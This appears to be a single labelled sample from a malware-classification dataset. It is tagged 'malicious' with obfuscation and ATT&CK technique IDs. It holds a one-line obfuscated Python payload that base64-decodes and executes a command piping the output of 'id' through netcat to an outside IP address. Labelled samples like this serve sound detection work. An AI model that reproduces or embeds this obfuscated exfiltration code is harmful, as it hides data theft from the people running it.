# label: malicious family=obfuscation techniques=T1027,T1033,T1041,T1059.004,T1059.006,T1140 lines=2
(lambda a: (lambda b: (lambda c: c(b("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQgfCBuYyAxOTguNTEuMTAwLjcgOTAiKQ==")))(a(__import__("builtins"), "exec")))(__import__("base64").b64decode))(getattr)
